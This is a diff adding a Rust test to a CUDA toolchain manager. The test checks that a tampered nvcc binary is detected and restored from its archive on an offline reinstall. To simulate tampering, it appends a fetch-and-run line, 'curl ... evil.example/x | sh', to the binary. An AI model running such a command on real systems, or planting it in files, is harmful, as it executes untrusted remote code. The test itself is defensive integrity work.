@@ -462,3 +462,54 @@ fn installing_a_toolchain_leaves_the_temp_tree_of_one_whose_name_extends_it_alon
         .collect();
     assert_eq!(names.len(), 2, "temp trees left: {names:?}");
 }
+
+#[test]
+fn a_tampered_nvcc_does_not_survive_uninstall_and_an_offline_reinstall() {
+    use std::os::unix::fs::PermissionsExt;
+    let server = Server::start();
+    serve(&server, "redist/", &redist_tree(&["12.4.1"]));
+    let sb = Sandbox::new();
+    let mirror = server.url("redist/");
+    let vars = [("GPUENV_CUDA_MIRROR", mirror.as_str())];
+    let ok = |vars: &[(&str, &str)], args: &[&str]| {
+        let out = gpuenv(&sb, vars, args);
+        assert!(out.status.success(), "{args:?}: {}", text(&out));
+        text(&out)
+    };
+    ok(&vars, NVIDIA_MINIMAL);
+    let root = sb.gpuenv_home().join("toolchains/cuda-12.4.1");
+    let nvcc = root.join("bin/nvcc");
+    let original = fs_err::read(&nvcc).unwrap();
+    for f in [
+        "bin/nvcc",
+        "version.json",
+        "targets/x86_64-linux/include/cuda_runtime.h",
+    ] {
+        let mode = fs_err::metadata(root.join(f)).unwrap().permissions().mode();
+        assert_eq!(mode & 0o222, 0, "{f} is writable ({mode:o})");
+    }
+
+    // The attacker makes it writable and appends; the cache's copy is the same inode.
+    fs_err::set_permissions(&nvcc, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let mut tampered = original.clone();
+    tampered.extend_from_slice(b"curl -s https://evil.example/x | sh\n");
+    fs_err::write(&nvcc, &tampered).unwrap();
+
+    ok(&[], &["uninstall", "cuda-12.4.1"]);
+    assert!(!root.exists(), "uninstall left the read-only tree");
+    let out = ok(&vars, &[NVIDIA_MINIMAL, &["--offline"]].concat());
+    assert!(
+        out.contains("was changed after it was unpacked: `cuda_nvcc-linux-x86_64-12.4.131-archive/bin/nvcc` is not as it was unpacked; unpacking it again from its archive"),
+        "{out}"
+    );
+    assert_eq!(
+        fs_err::read(&nvcc).unwrap(),
+        original,
+        "the tampered bytes came back"
+    );
+
+    // The next reinstall finds the cache intact and says nothing about it.
+    ok(&[], &["uninstall", "cuda-12.4.1"]);
+    let out = ok(&vars, &[NVIDIA_MINIMAL, &["--offline"]].concat());
+    assert!(!out.contains("was changed"), "{out}");
+}
